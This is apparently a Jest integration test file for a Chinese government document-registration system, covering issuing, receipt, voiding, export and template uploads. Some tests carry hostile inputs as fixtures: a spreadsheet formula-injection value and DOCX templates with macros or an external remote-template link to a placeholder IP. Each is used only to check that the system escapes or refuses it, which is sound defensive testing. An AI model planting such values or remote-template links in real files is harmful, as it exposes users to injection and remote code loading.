import { createHash, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { verifyAudit } from '../../../database/audit/audit-verify.js';
import { layoutOf, textOf } from '../../documents/layout.js';
import { OTHER_COUNTY } from '../../e2e/product.js';
import { startDocumentsWorld, COUNTY, YEAR, type DocumentsWorld } from './documents-world.js';

let world: DocumentsWorld;
let circular: string;

beforeAll(async () => {
  world = await startDocumentsWorld();
  const { body } = await world.get('office', `documents?region=${COUNTY}&kind=circular`);
  circular = body.items[0].id;
});
afterAll(() => world.stop());

const sha = (content: Buffer) => createHash('sha256').update(content).digest('hex');
const facts = async (kind: string): Promise<{ body: Record<string, unknown> }[]> =>
  world.dataSource.query(`select body from audit_entry where kind = $1 order by process_id, seq`, [kind]);

describe('发文登记', () => {
  it('shows what was issued, with who has signed for it', async () => {
    const { body } = await world.get('auditor', `documents?year=${YEAR}`);
    expect(body.items).toMatchObject([
      {
        kind: 'circular',
        kindLabel: '通报',
        number: `双双拥办通〔${YEAR}〕1号`,
        state: 'issued',
        asked: 33,
        received: 0,
      },
    ]);
  });

  it('is for who sees the process and for recipients, whole pages long', async () => {
    for (const login of [
      'office',
      'leader1',
      'liaison.health',
      'liaison.garrison',
      'city.office',
      'province.office',
    ])
      expect([login, (await world.get(login, `documents/${circular}`)).status]).toEqual([login, 200]);
    for (const login of ['admin', `${OTHER_COUNTY}.office`, `${OTHER_COUNTY}.liaison.member1`]) {
      expect([login, (await world.get(login, `documents/${circular}`)).status]).toEqual([login, 404]);
      expect((await world.get(login, 'documents')).body.items).toEqual([]);
    }
    for (const wrong of ['kind=letter', 'cursor=xx', 'year=1', 'processId=1'])
      expect((await world.get('office', `documents?${wrong}`)).status).toBe(400);
  });

  it('turns page by page, and finds by words', async () => {
    for (let i = 0; i < 3; i++)
      await world.dataSource.query(
        `insert into document (id, office_unit_id, region_code, kind, year, serial, number, title, process_id, content, content_sha256, issued_at)
         select gen_random_uuid(), office_unit_id, region_code, 'statistics', year, $2::int, '表' || $2::int, title, process_id, content, content_sha256, issued_at
         from document where id = $1`,
        [circular, i + 1],
      );
    const seen: string[] = [];
    let cursor: string | null = '';
    while (cursor !== null) {
      const { body } = await world.get(
        'office',
        `documents?kind=statistics&limit=1${cursor && `&cursor=${cursor}`}`,
      );
      seen.push(...body.items.map(({ number }: { number: string }) => number));
      cursor = body.nextCursor;
    }
    expect(seen.sort()).toEqual(['表1', '表2', '表3']);
    expect((await world.get('office', `documents?q=${encodeURIComponent('100%')}`)).body.items).toEqual([]);
    await world.dataSource.query(`delete from document where kind = 'statistics'`);
  });

  it('is exported as a table; a text that begins like a formula stays a text', async () => {
    await world.change('POST', 'office', 'documents/incoming', {
      issuer: '=HYPERLINK("x")',
      number: '无',
      title: '来文，“带引号"的',
      receivedOn: `${YEAR}-01-05`,
    });
    const { content, headers } = await world.bytes('office', 'documents/export?register=incoming&format=csv');
    expect(headers.get('content-type')).toContain('text/csv');
    expect(content.subarray(0, 3)).toEqual(Buffer.from('\ufeff'));
    expect(content.toString()).toContain(`"'=HYPERLINK(""x"")"`);
    expect(content.toString()).toContain('"来文，“带引号""的"');
    const workbook = new ExcelJS.Workbook();
    const table = await world.bytes('auditor', `documents/export?year=${YEAR}`);
    await workbook.xlsx.load(table.content as unknown as ArrayBuffer);
    expect(workbook.worksheets[0]!.getRow(2).getCell(1).value).toBe(`双双拥办通〔${YEAR}〕1号`);
    expect((await world.get('liaison.health', 'documents/export')).status).toBe(403);
  });
});

describe('the file', () => {
  it('is rendered when it is first asked for, once, also when two ask at once; its hash stands in the record', async () => {
    const ask = () => world.bytes('liaison.health', `documents/${circular}/file`);
    const [one, two] = await Promise.all([ask(), ask()]);
    expect(one.status).toBe(200);
    expect(one.content.equals(two.content)).toBe(true);
    expect(one.headers.get('content-disposition')).toContain('.docx');
    const rendered = await facts('documentRendered');
    expect(rendered.map(({ body }) => body['sha256'])).toEqual([sha(one.content)]);
    expect((await ask()).content.equals(one.content)).toBe(true);
    expect(textOf((await layoutOf(one.content)).document)).toContain('随军家属就业');
    expect((await world.bytes('admin', `documents/${circular}/file`)).status).toBe(404);
  });

  it('cannot be changed any more, nor the content it was made of', async () => {
    await expect(world.dataSource.query(`update document_file set content = 'x'`)).rejects.toThrow(
      /permission denied/,
    );
    const { body } = await world.get('office', `documents/${circular}`);
    const [issued] = await facts('documentIssued');
    expect(body.contentSha256).toBe(issued!.body['sha256']);
  });
});

describe('签收', () => {
  it('by one of the recipients, once', async () => {
    const mine = `documents?unreceived=true`;
    expect((await world.get('liaison.health', mine)).body.items).toHaveLength(1);
    expect((await world.get('liaison.health', `documents/${circular}`)).body.mayReceive).toBe(true);
    expect((await world.change('POST', 'liaison.health', `documents/${circular}/receipt`)).status).toBe(200);
    expect((await world.change('POST', 'leader.health', `documents/${circular}/receipt`)).body.code).toBe(
      'DOCUMENT_RECEIVED',
    );
    expect((await world.change('POST', 'office', `documents/${circular}/receipt`)).body.code).toBe(
      'DOCUMENT_RECEIVED',
    );
    expect((await world.change('POST', 'city.office', `documents/${circular}/receipt`)).status).toBe(200);
    expect((await world.get('liaison.health', mine)).body.items).toEqual([]);
    const { body } = await world.get('office', `documents/${circular}`);
    expect(body).toMatchObject({ received: 2, asked: 33, mayReceive: false });
    const health = body.recipients.find(({ name }: { name: string }) => name.includes('卫生健康局'));
    expect(health).toMatchObject({
      role: 'main',
      receivedBy: (await world.login('liaison.health')).person.name,
    });
    expect(await facts('documentReceived')).toHaveLength(2);
  });
});

describe('收文登记', () => {
  it('a copy to the city stands in its register by itself; others are registered by hand', async () => {
    const { body } = await world.get('city.office', 'documents/incoming?region=5309');
    expect(body.items).toMatchObject([
      { number: `双双拥办通〔${YEAR}〕1号`, documentId: circular, registeredBy: null, voided: false },
    ]);
    const incoming = {
      issuer: '省双拥办',
      number: '云双拥办发〔2027〕1号',
      title: '关于某事的通知',
      receivedOn: `${YEAR}-01-10`,
    };
    const key = randomUUID();
    for (let i = 0; i < 2; i++)
      expect((await world.change('POST', 'office', 'documents/incoming', incoming, key)).status).toBe(200);
    const own = await world.get(
      'leader1',
      `documents/incoming?region=${COUNTY}&q=${encodeURIComponent('云双拥办')}`,
    );
    expect(own.body.items).toHaveLength(1);
    const bad = async (change: object) =>
      (await world.change('POST', 'office', 'documents/incoming', { ...incoming, ...change })).body.code;
    expect(await bad({ receivedOn: `${YEAR}-02-30` })).toBe('INVALID_DATE');
    expect(await bad({ receivedOn: `${YEAR + 2}-01-01` })).toBe('INVALID_FIELD');
    expect(await bad({ title: '绝密★长期' })).toBe('CLASSIFIED_CONTENT');
    expect(await bad({ region: '5309' })).toBe('FORBIDDEN');
  });
});

describe('机关代字', () => {
  it('is the office’s own, and never one that another kind has', async () => {
    const put = (kind: string, word: string) =>
      world.change('PUT', 'office', `documents/words/${kind}`, { word });
    expect((await put('notice', '双双拥发')).body.items[0]).toMatchObject({
      kind: 'notice',
      word: '双双拥发',
      usual: '双双拥办发',
      next: `双双拥发〔${YEAR}〕1号`,
    });
    for (const [kind, word] of [
      ['report', '双双拥发'],
      ['report', '双双拥办通'],
      ['report', 'A〔1〕'],
      ['report', '双'],
    ])
      expect((await put(kind!, word!)).body.code).toMatch(/INVALID/);
    expect((await put('circular', '双双拥通')).status).toBe(200);
    // It was the circulars' this year: a report with it would have a number that is taken.
    expect((await put('report', '双双拥办通')).body.code).toBe('INVALID_FIELD');
    expect((await put('letter', '双双拥信')).status).toBe(404);
    expect((await world.get(`${OTHER_COUNTY}.office`, 'documents/words')).body.items[0].word).toBe(
      '演双拥办发',
    );
  });
});

describe('templates', () => {
  const put = (content: Buffer, name = '模板.docx', kind = 'supervision') =>
    world.upload('PUT', 'office', `documents/templates/${kind}?name=${encodeURIComponent(name)}`, content);
  const sample = async (kind = 'supervision') =>
    (await world.bytes('office', `documents/templates/${kind}/sample`)).content;
  const changed = async (change: (zip: JSZip) => void | Promise<void>) => {
    const zip = await JSZip.loadAsync(await sample());
    await change(zip);
    return zip.generateAsync({ type: 'nodebuffer' });
  };
  const rewritten = (from: RegExp | string, to: string) =>
    changed(async (zip) => {
      const xml = await zip.file('word/document.xml')!.async('string');
      zip.file('word/document.xml', xml.replace(from, to));
    });

  it('the sample of every kind is a template that can be used', async () => {
    for (const kind of ['notice', 'circular', 'minutes', 'request', 'report', 'forwarding', 'supervision'])
      expect([kind, (await put(await sample(kind), `${kind}.docx`, kind)).status]).toEqual([kind, 200]);
    for (const kind of ['notice', 'circular', 'minutes', 'request', 'report', 'forwarding', 'supervision'])
      expect((await world.change('DELETE', 'office', `documents/templates/${kind}`)).status).toBe(200);
  });

  it.each<[string, () => Promise<Buffer>, string]>([
    ['without a number', () => rewritten('{{number}}', '某号'), 'TEMPLATE_UNFIT'],
    ['with a blank nobody knows', () => rewritten('{{copies}}', '{{who}}'), 'TEMPLATE_UNFIT'],
    ['with a secrecy mark', () => rewritten('{{copies}}', '机密★10年'), 'CLASSIFIED_CONTENT'],
    ['with macros', () => changed((zip) => void zip.file('word/vbaProject.bin', 'x')), 'ATTACHMENT_ACTIVE'],
    [
      'that fetches something from elsewhere',
      () =>
        changed(
          (zip) =>
            void zip.file(
              'word/_rels/settings.xml.rels',
              '<Relationships><Relationship Id="x" Type="attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>',
            ),
        ),
      'TEMPLATE_UNFIT',
    ],
    ['that is none', () => Promise.resolve(Buffer.from('正文')), 'TEMPLATE_UNFIT'],
    ['that is too big', () => Promise.resolve(Buffer.alloc(2 * 1024 * 1024 + 1, 0x20)), 'TEMPLATE_UNFIT'],
  ])('one %s is refused', async (_, make, code) => {
    expect((await put(await make())).body.code).toBe(code);
  });

  it('what is issued under it looks like it, what was issued before and after does not; versions stay', async () => {
    const supervise = async (requirement: string): Promise<string> => {
      const answer = await world.change('POST', 'office', `assignments/${world.solving}/supervision`, {
        requirement,
      });
      expect([answer.status, answer.text]).toEqual([200, expect.anything()]);
      // The next of the same colour needs this one out of the way.
      await world.change('POST', 'director', `documents/${answer.body.documentId}/void`, { reason: '试验' });
      return answer.body.documentId;
    };
    const before = await supervise('第一次');
    const letterhead = await rewritten('{{issuer}}督办单', '本办自己的版式{{issuer}}');
    const { body } = await put(letterhead);
    expect(body.items.find(({ kind }: { kind: string }) => kind === 'supervision')).toMatchObject({
      builtIn: false,
    });
    const under = await supervise('第二次<要求>');
    await world.change('DELETE', 'office', 'documents/templates/supervision');
    const after = await supervise('第三次');
    const looks = await Promise.all(
      [before, under, after].map(async (id) => {
        const file = await world.bytes('office', `documents/${id}/file`);
        return textOf((await layoutOf(file.content)).document);
      }),
    );
    expect(looks.map((text) => text.includes('本办自己的版式'))).toEqual([false, true, false]);
    expect(looks[1]).toContain('第二次&lt;要求&gt;');
    expect(looks[1]).not.toContain('{{');
    const list = await world.get('office', 'documents/templates');
    const versions = list.body.items.find(({ kind }: { kind: string }) => kind === 'supervision').versions;
    expect(versions.slice(0, 2)).toMatchObject([
      { name: null },
      { name: '模板.docx', sha256: sha(letterhead) },
    ]);
    expect((await world.bytes('office', 'documents/templates/supervision/file')).status).toBe(404);
  });
});

describe('督办单 over the API', () => {
  it('is for the unit it is addressed to, not for others of the same process', async () => {
    const { body } = await world.change('POST', 'leader1', `assignments/${world.solving}/supervision`, {
      requirement: '一周内反馈',
      replyBy: `${YEAR + 1}-01-31`,
    });
    expect(body).toMatchObject({ colour: 'blue' });
    const status = async (login: string) => (await world.get(login, `documents/${body.documentId}`)).status;
    expect([await status('liaison.education'), await status('office')]).toEqual([200, 200]);
    expect([await status('liaison.garrison'), await status('liaison.health')]).toEqual([404, 404]);
    const refused = await world.change(
      'POST',
      'liaison.education',
      `assignments/${world.solving}/supervision`,
      { requirement: 'x' },
    );
    expect(refused.status).toBe(403);
    const notices = await world.get('liaison.education', 'notices');
    expect(notices.text).toContain('督办单');
    const history = await world.get('office', `processes/${world.itemId}/history?kind=supervised`);
    expect(history.body.items[0].sentence).toMatch(/向县教育体育局发出督办单双双拥办督〔\d+〕\d+号（蓝色）/);
  });
});

describe('作废', () => {
  it('by the director of the office that issued it; the city’s register says so', async () => {
    const voiding = (login: string, key?: string) =>
      world.change('POST', login, `documents/${circular}/void`, { reason: '数据有误' }, key);
    expect((await voiding('office')).body.code).toBe('FORBIDDEN');
    expect((await voiding('auditor')).body.code).toBe('READ_ONLY_ROLE');
    const key = randomUUID();
    expect([(await voiding('director', key)).status, (await voiding('director', key)).status]).toEqual([
      200, 200,
    ]);
    const { body } = await world.get('office', `documents?state=void&kind=circular`);
    expect(body.items).toMatchObject([{ id: circular, state: 'void', voidReason: '数据有误' }]);
    expect((await world.get('city.office', 'documents/incoming?region=5309')).body.items[0].voided).toBe(
      true,
    );
    expect((await world.change('POST', 'liaison.tax', `documents/${circular}/receipt`)).body.code).toBe(
      'DOCUMENT_VOID',
    );
    expect((await world.bytes('office', `documents/${circular}/file`)).status).toBe(200);
    expect((await verifyAudit(world.dataSource.manager)).problem).toBeNull();
  });
});
